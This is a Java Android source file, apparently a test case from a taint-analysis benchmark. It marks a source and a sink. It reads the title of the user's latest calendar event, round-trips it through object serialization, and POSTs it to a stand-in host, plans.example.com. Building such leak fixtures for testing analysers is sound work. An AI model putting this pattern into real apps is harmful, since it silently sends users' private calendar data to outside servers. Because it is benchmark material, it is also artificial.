package bench.flow.travelling_note;

import android.Manifest;
import android.app.Activity;
import android.content.pm.PackageManager;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.CalendarContract.Events;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;
import java.io.OutputStreamWriter;
import java.io.Writer;
import java.net.HttpURLConnection;
import java.net.URL;
import java.nio.charset.StandardCharsets;

public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        if (checkSelfPermission(Manifest.permission.READ_CALENDAR)
                == PackageManager.PERMISSION_GRANTED) {
            new Thread(this::travel).start();
        } else {
            requestPermissions(new String[] {Manifest.permission.READ_CALENDAR}, 1);
        }
    }

    private void travel() {
        try {
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
                out.writeObject(new Note(plan()));
            }
            try (ObjectInputStream in =
                    new ObjectInputStream(new ByteArrayInputStream(bytes.toByteArray()))) {
                post((Note) in.readObject());
            }
        } catch (IOException | ClassNotFoundException problem) {
            finish();
        }
    }

    private String plan() {
        String[] columns = {Events.TITLE};
        try (Cursor rows = getContentResolver().query(Events.CONTENT_URI, columns, null, null, null)) { //: #source
            return rows != null && rows.moveToLast() ? rows.getString(0) : "empty";
        }
    }

    private static void post(Note note) throws IOException {
        URL url = new URL("https://plans.example.com/notes");
        HttpURLConnection connection = (HttpURLConnection) url.openConnection();
        connection.setDoOutput(true);
        try (Writer out =
                new OutputStreamWriter(connection.getOutputStream(), StandardCharsets.UTF_8)) {
            out.write(note.toString()); //: #sink
        }
        connection.getResponseCode();
    }
}
